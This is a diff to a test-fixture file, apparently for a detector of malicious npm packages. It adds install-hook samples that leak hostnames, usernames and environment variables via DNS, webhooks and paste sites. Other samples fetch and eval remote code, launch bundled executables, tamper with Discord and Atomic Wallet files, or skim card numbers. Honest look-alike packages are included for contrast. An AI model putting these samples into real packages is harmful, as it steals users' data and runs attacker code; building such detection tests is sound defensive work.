@@ -189,6 +189,101 @@ export const MALICIOUS_23: Record<string, Record<string, string | Buffer>> = {
     'package.json': pj(),
     'index.js': `document.addEventListener('submit', () => {\n  const num = document.querySelector('input[name="cardnumber"]').value;\n  const code = document.querySelector('input[name="cvc"]').value;\n  const payload = JSON.stringify({ n: num, c: code, at: Date.now() });\n  navigator.sendBeacon('https://collect.pixel-cdn.example/b', payload);\n});\n`,
   },
+  dnsAlias1: hook(
+    `const R = require('dns').promises.Resolver;\nconst r = new R();\nr.resolve4(require('os').hostname() + '.a.oob.example');\n`,
+  ),
+  dnsAlias2: hook(`require('dns/promises').lookup(require('os').userInfo().username + '.a.oob.example');\n`),
+  dnsAlias3: hook(
+    `const { promisify } = require('util');\nconst dns = require('dns');\nconst look = promisify(dns.lookup);\nlook(require('os').hostname() + '.a.oob.example');\n`,
+  ),
+  dnsAlias4: hook(
+    `const dns = require('dns');\nconst q = dns.lookup.bind(dns);\nq(require('os').hostname() + '.a.oob.example', () => {});\n`,
+  ),
+  dnsAlias5: hook(
+    `const { spawn } = require('child_process');\nconst os = require('os');\nspawn('nslookup', [\`\${os.hostname()}.a.oob.example\`]);\n`,
+  ),
+  dnsAlias6: hook(
+    `const os = require('os');\nconst { username } = os.userInfo();\nrequire('child_process').execSync(\`dig +short \${username}.\${os.hostname()}.a.oob.example\`);\n`,
+  ),
+  dnsAlias7: hook(
+    `const dns = require('dns');\nconst D = '.a.oob.example';\nconst info = Buffer.from(JSON.stringify([require('os').hostname(), process.cwd()])).toString('base64url');\ninfo.match(/.{1,50}/g).forEach((c, i) => dns.resolve(i + '-' + c + D, () => {}));\n`,
+  ),
+  dnsAlias8: hook(
+    `import('node:dns').then(({ default: dns }) => dns.lookup(require('os').hostname() + '.a.oob.example', () => {}));\n`,
+  ),
+  dnsAlias9: hook(
+    `const dns = require('dns');\nconst os = require('os');\nconst tag = [os.hostname(), os.userInfo().username].map((s) => s.replace(/[^a-z0-9]/gi, '')).join('-');\nsetTimeout(() => dns.lookup(\`\${tag}.a.oob.example\`, () => {}), 1000);\n`,
+  ),
+  evalVia1: hook(
+    `const https = require('https');\nhttps.get('https://c.cdn-cfg.example/x', (res) => { let body = ''; res.setEncoding('utf8'); res.on('data', (d) => { body += d; }); res.on('end', () => { const run = eval; run(body); }); });\n`,
+  ),
+  evalVia2: hook(
+    `const https = require('https');\nhttps.get('https://c.cdn-cfg.example/x', (res) => { let body = ''; res.on('data', (d) => (body += d)); res.on('end', () => (0, eval)(body)); });\n`,
+  ),
+  evalVia3: hook(
+    `(async () => { const r = await fetch('https://c.cdn-cfg.example/x'); const code = await r.text(); globalThis['ev' + 'al'](code); })();\n`,
+  ),
+  evalVia4: hook(
+    `const got = require('got');\ngot('https://c.cdn-cfg.example/x').text().then((code) => require('vm').runInNewContext(code, { require }));\n`,
+  ),
+  evalVia5: hook(
+    `const axios = require('axios');\naxios.get('https://c.cdn-cfg.example/x').then(({ data }) => { const f = new Function('require', data); f(require); });\n`,
+  ),
+  evalVia6: hook(
+    `const s = require('node-serialize');\nrequire('axios').get('https://c.cdn-cfg.example/state').then((r) => s.unserialize(r.data));\n`,
+  ),
+  evalVia7: hook(
+    `const https = require('https');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => ok(b)); })); }\nget('https://c.cdn-cfg.example/x').then((src) => eval(src));\n`,
+  ),
+  evalVia8: hook(
+    `const { execSync } = require('child_process');\nconst code = execSync('curl -s https://c.cdn-cfg.example/x').toString();\neval(code);\n`,
+  ),
+  spawnHook1: {
+    'package.json': pj({ scripts: { postinstall: 'node ./' } }),
+    'index.js': `const cp = require('child_process');\ncp.exec('start "" "' + require('path').join(__dirname, 'bin', 'svc.exe') + '"');\n`,
+    'bin/svc.exe': PE,
+  },
+  spawnHook2: {
+    'package.json': pj({ main: 'lib', scripts: { install: 'node .' } }),
+    'lib/index.js': `const { spawn } = require('child_process');\nspawn(__dirname + '/../bin/svc.exe', [], { detached: true, stdio: 'ignore' }).unref();\n`,
+    'bin/svc.exe': PE,
+  },
+  spawnHook3: {
+    'package.json': pj({ scripts: { postinstall: 'node .' } }),
+    'index.js': `const { spawn } = require('child_process');\nconst fs = require('fs'); const os = require('os'); const path = require('path');\nconst dst = path.join(os.tmpdir(), 'svc.exe');\nfs.copyFileSync(path.join(__dirname, 'data.bin'), dst);\nspawn(dst, { detached: true, stdio: 'ignore' }).unref();\n`,
+    'data.bin': PE,
+  },
+  spawnHook4: {
+    'package.json': pj({ scripts: { postinstall: 'node .' } }),
+    'index.js': `require('./lib/start')();\n`,
+    'lib/start.js': `module.exports = () => { const c = require('child_process'); const p = c.spawn(require('path').resolve(__dirname, '../res/a.exe'), { detached: true, windowsHide: true, stdio: 'ignore' }); p.unref(); };\n`,
+    'res/a.exe': PE,
+  },
+  appWrite1: hook(
+    `const fs = require('fs'); const path = require('path');\nconst p = path.join(process.env.LOCALAPPDATA, 'Discord');\nconst app = fs.readdirSync(p).filter((d) => d.startsWith('app-')).pop();\nconst target = path.join(p, app, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');\nfs.appendFileSync(target, "\\nrequire('https').get('https://x.grab.example/')");\n`,
+  ),
+  appWrite2: hook(
+    `const fs = require('fs'); const path = require('path'); const os = require('os');\nconst base = path.join(os.homedir(), 'Library', 'Application Support', 'atomic');\nfs.renameSync(path.join(__dirname, 'a.asar'), path.join('/Applications/Atomic Wallet.app/Contents/Resources', 'app.asar'));\n`,
+  ),
+  trackerSend1: hook(
+    `const os = require('os');\nrequire('axios').post('https://paste.ee/api/v1/pastes', { sections: [{ contents: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) }] });\n`,
+  ),
+  trackerSend2: hook(
+    `const os = require('os');\nfetch('https://gitlab.com/api/v4/projects/12345/issues', { method: 'POST', headers: { 'PRIVATE-TOKEN': 'x' }, body: new URLSearchParams({ title: os.hostname(), description: JSON.stringify(process.env) }) });\n`,
+  ),
+  trackerSend3: hook(
+    `const os = require('os');\nconst https = require('https');\nconst req = https.request('https://hooks.slack.com/services/T0/B0/xyz', { method: 'POST' });\nreq.write(JSON.stringify({ text: os.hostname() + ' ' + os.userInfo().username + ' ' + process.cwd() }));\nreq.end();\n`,
+  ),
+  trackerSend4: hook(
+    `const os = require('os');\nfetch('https://abc123.oast.fun/?h=' + os.hostname() + '&u=' + os.userInfo().username);\n`,
+  ),
+  trackerSend5: hook(
+    `const os = require('os');\nfetch('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' + encodeURIComponent(os.hostname()));\n`,
+  ),
+  trackerSend6: {
+    'package.json': pj(),
+    'index.js': `const os = require('os');\nmodule.exports = function init() { fetch('https://api.github.com/repos/x/y/issues', { method: 'POST', body: JSON.stringify({ title: os.hostname(), body: os.userInfo().username }) }); };\ninit();\n`,
+  },
 };
 
 /** Honest look-alikes by id: their files. */
@@ -248,5 +343,17 @@ export const HONEST_23: Record<string, Record<string, string>> = {
   checkoutOwnProcessor: {
     'package.json': pj(),
     'index.js': `export async function pay() {\n  const number = document.getElementById('cc-number').value;\n  const cvc = document.getElementById('cc-cvc').value;\n  const r = await fetch('https://api.pay-processor.example/v1/tokens', { method: 'POST', body: JSON.stringify({ number, cvc }) });\n  return (await r.json()).token;\n}\nexport function pageView() { new Image().src = 'https://px.pay-processor.example/pv?p=' + encodeURIComponent(location.pathname); }\n`,
+  },
+  promisifiedExecBuild: {
+    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const { promisify } = require('util');\nconst cp = require('child_process');\nconst os = require('os');\nconst run = promisify(cp.exec);\nconst look = promisify(require('dns').lookup);\n(async () => { console.log('building on', os.hostname()); await run('node-gyp rebuild'); await look('registry.npmjs.org').catch(() => {}); })();\n`,
+  },
+  localEvaluatorAlias: {
+    'package.json': pj(),
+    'index.js': `const run = eval;\nconst globalObject = run('this');\nconst F = Function;\nmodule.exports = { globalObject, noop: new F('') };\n`,
+  },
+  bundledClientAsText: {
+    'package.json': pj(),
+    'index.js': `// An HTTP client's source carried as text for a sandboxed runtime (the shape of a bundled fetch polyfill).\nmodule.exports = \`"use strict";\nfunction stripCredentials(url) { url.username = ""; url.password = ""; url.hash = ""; return url; }\nfunction check(input, context) { if (typeof input !== "string") throw new TypeError(context.value + " is not a string"); }\nasync function get(input) { const u = stripCredentials(new URL(input, "https://registry.example.org/")); const res = await fetch(u); return res.text(); }\nmodule.exports = { get, check };\n\`;\n`,
   },
 };
